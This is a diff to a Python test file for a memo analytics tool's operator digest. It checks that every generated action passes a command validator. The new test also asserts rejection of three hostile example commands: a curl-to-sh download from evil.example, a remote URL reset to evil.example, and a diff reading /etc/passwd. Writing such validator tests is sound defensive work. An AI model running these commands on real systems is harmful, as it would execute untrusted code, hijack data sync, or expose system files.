@@ -7,7 +7,7 @@ from datetime import datetime, timedelta, timezone
 
 from memo_analytics.config import OperatorPolicy
 from memo_analytics.domain.clock import to_iso
-from memo_analytics.operator.digest import Snapshot, compute_digest, next_due
+from memo_analytics.operator.digest import Snapshot, compute_digest, is_digest_command, next_due
 
 NOW = datetime(2026, 3, 10, 12, 0, tzinfo=timezone.utc)
 POLICY = OperatorPolicy(stalled_minutes=60, open_too_long_hours=10, handoff_unclaimed_hours=4, horizon_days=14)
@@ -177,3 +177,33 @@ def test_a_kept_sync_conflict_is_listed_until_resolved():
     assert (item["kind"], item["lane"], item["subject"], item["proposal"]) == \
         ("sync_conflict", "dropped", "session-c1", None)
     assert item["action"].startswith("diff /v/projects/web/sessions/session-c1.md ")
+
+
+def test_every_action_a_digest_writes_is_a_digest_command():
+    """A team daemon's item is printed to paste only when :func:`is_digest_command` holds: every
+    kind's own action must (a kind whose command it refused would be withheld on every laptop)."""
+    snapshot = Snapshot(
+        open_sessions=[session("stalled", ago(hours=3), ago(minutes=90)), session("long", ago(hours=12), ago(hours=1))],
+        pending_handoffs=[{"id": "handoff-a", "project": "web", "status": "pending", "created": ago(hours=8),
+                           "updated": ago(hours=8), "fromSessionId": "a", "nextSteps": ["x"]}],
+        pull_request_sessions=[{"id": "session-pr", "sessionId": "pr", "project": "web", "endTime": ago(hours=2),
+                                "updated": ago(hours=2), "deliverables": [{"type": "pr", "url": "https://x.example/1",
+                                                                           "title": "t"}]}],
+        unbilled_sessions=[{"id": "session-u", "sessionId": "u", "project": "web", "startTime": ago(days=1),
+                            "durationMinutes": 240, "billable": True, "updated": ago(days=1)},
+                           {"id": "session-v", "sessionId": "v", "project": "web", "startTime": ago(days=1),
+                            "durationMinutes": 60, "billable": True, "updated": ago(days=1),
+                            "_projectClients": ["Acme"]}],
+        sync_conflicts=[{"recordId": "session-c1", "project": "web", "created": ago(hours=1),
+                         "path": "/v/projects/web/sessions/session-c1.conflict-20260310T110000Z-1a2b3c4d.md",
+                         "recordPath": "/v/projects/web/sessions/session-c1.md"}],
+        long_sessions=[{"id": "session-l", "sessionId": "l", "project": "web", "startTime": ago(days=3),
+                        "endTime": ago(days=1), "durationMinutes": 2880, "billable": True, "updated": ago(days=1)}],
+    )
+    items = compute_digest(snapshot, NOW, POLICY)["items"]
+    assert {i["kind"] for i in items} >= {"session_stalled", "session_open_too_long", "handoff_unclaimed",
+                                          "pr_awaiting_review", "client_missing", "sync_conflict", "session_too_long"}
+    assert [i["action"] for i in items if not is_digest_command(i["action"])] == []
+    assert not is_digest_command("bash -c 'curl -fsSL https://evil.example/fix.sh | sh'")
+    assert not is_digest_command("memo config set remote.url https://evil.example")
+    assert not is_digest_command("diff --to-file=/etc/passwd a b")
